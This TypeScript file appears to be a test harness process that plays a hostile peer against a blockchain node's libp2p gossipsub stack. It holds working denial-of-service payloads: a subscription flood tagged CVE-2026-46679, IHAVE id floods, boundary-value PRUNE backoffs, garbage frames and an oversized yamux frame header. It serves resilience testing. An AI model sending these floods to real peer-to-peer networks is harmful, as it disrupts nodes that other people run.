import type { Connection, Stream } from '@libp2p/interface';
import { multiaddr } from '@multiformats/multiaddr';
import { CHANNELS, topicOf } from '../../node/network/channels.ts';
import { bareHost, CHAIN, pause } from './networks.ts';

// A hostile member in a process of its own: `node floodProcess.ts KIND NUMBER LISTEN TARGET`. It
// connects with the key of member NUMBER, says `ready`, and begins its attack at the first line on
// its input. It goes on until it is killed or cut off.

const [kind = '', number = '', listen = '', target = ''] = process.argv.slice(2);

/** One field of a protobuf message: a number, or bytes after their length. */
function field(tag: number, value: Uint8Array | bigint): Uint8Array {
  if (typeof value === 'bigint') return Uint8Array.of(tag << 3, ...varint(value));
  return Buffer.concat([Uint8Array.of((tag << 3) | 2), varint(BigInt(value.length)), value]);
}

function varint(value: bigint): Uint8Array {
  const bytes: number[] = [];
  let rest = value;
  for (; rest >= 128n; rest >>= 7n) bytes.push(Number(rest & 127n) | 128);
  return Uint8Array.of(...bytes, Number(rest));
}

function framed(rpc: Uint8Array): Uint8Array {
  return Buffer.concat([varint(BigInt(rpc.length)), rpc]);
}

const text = (value: string) => new TextEncoder().encode(value);
const heads = text(topicOf(CHAIN, 'heads'));

/** 17 frames of 4 MB of the same part over and over; the number in it differs each time. */
const FRAME_BYTES = 4 * 1024 * 1024;

function filled(part: (number: string) => Uint8Array): Uint8Array {
  const one = part('0000000');
  const count = Math.floor((FRAME_BYTES - 100) / one.length);
  const all = Buffer.alloc(count * one.length);
  const at = Buffer.from(one).indexOf('0000000');
  for (let number = 0; number < count; number += 1) {
    all.set(one, number * one.length);
    all.write(String(number).padStart(7, '0'), number * one.length + at, 'latin1');
  }
  return all;
}

/** CVE-2026-46679: one frame with 280,000 subscriptions to topics of their own. */
function subscriptions(): Uint8Array {
  return filled((topic) => field(1, Buffer.concat([field(1, 1n), field(2, text(topic))])));
}

/** IHAVE with as many ids as fit, in one entry or in an entry each. */
function offers(single: boolean): Uint8Array {
  if (!single) {
    return field(
      3,
      filled((id) => field(1, Buffer.concat([field(1, heads), field(2, text(id))]))),
    );
  }
  const ids = filled((id) => field(2, text(id.padEnd(20))));
  return field(3, field(1, Buffer.concat([field(1, heads), ids])));
}

/** PRUNE and GRAFT with numbers at the edges of what the field can say. */
function edges(): Uint8Array[] {
  const numbers = [0n, 1n, 2n ** 31n, 2n ** 53n, 2n ** 63n - 1n, 2n ** 64n - 1n];
  const prunes = numbers.map((backoff) => {
    const prune = Buffer.concat([field(1, heads), field(3, backoff)]);
    return field(3, field(4, prune));
  });
  return [...prunes, field(3, field(3, field(1, heads)))];
}

async function send(stream: Stream, bytes: Uint8Array): Promise<void> {
  if (!stream.send(bytes)) await stream.onDrain();
}

async function flood(connection: Connection, rpcs: readonly Uint8Array[]): Promise<void> {
  const stream = await connection.newStream(['/meshsub/1.2.0']);
  for (let round = 0; round < 17; round += 1) {
    for (const rpc of rpcs) await send(stream, framed(rpc));
  }
}

const floods: Readonly<Record<string, () => readonly Uint8Array[]>> = {
  subscriptions: () => [subscriptions()],
  offers: () => [offers(true), offers(false)],
};
const rpcs = floods[kind]?.() ?? [];

const ATTACKS: Readonly<Record<string, (connection: Connection) => Promise<void>>> = {
  subscriptions: (connection) => flood(connection, rpcs),
  offers: (connection) => flood(connection, rpcs),
  edges: async (connection) => {
    const stream = await connection.newStream(['/meshsub/1.2.0']);
    for (const rpc of edges()) await send(stream, framed(rpc));
    await send(stream, framed(field(2, Buffer.concat([field(2, text('done')), field(4, heads)]))));
  },
  garbage: async (connection) => {
    const stream = await connection.newStream(['/meshsub/1.2.0']);
    for (let round = 0; round < 2_000; round += 1) {
      await send(stream, framed(new Uint8Array(round).fill(round % 256)));
    }
    await send(stream, new Uint8Array(100).fill(255));
  },
  frame: async (connection) => {
    const stream = await connection.newStream(['/meshsub/1.2.0']);
    const raw: unknown = stream;
    const yamux = raw as { streamId: number; sendFrame: (header: object, body?: object) => void };
    yamux.sendFrame(
      { type: 0, flag: 0, streamID: yamux.streamId, length: 0xffffffff },
      new Uint8Array(16),
    );
    for (let round = 0; round < 100; round += 1) await send(stream, new Uint8Array(1024 * 1024));
  },
};

const host = await bareHost(Number(number), listen);
for (const channel of CHANNELS) host.gossip.subscribe(topicOf(CHAIN, channel));
const connection = await host.libp2p.dial(multiaddr(target));
await pause(300);
process.stdout.write('ready\n');
process.stdin.once('data', () => {
  ATTACKS[kind]?.(connection).catch(() => {});
});
process.stdin.once('end', () => process.exit());
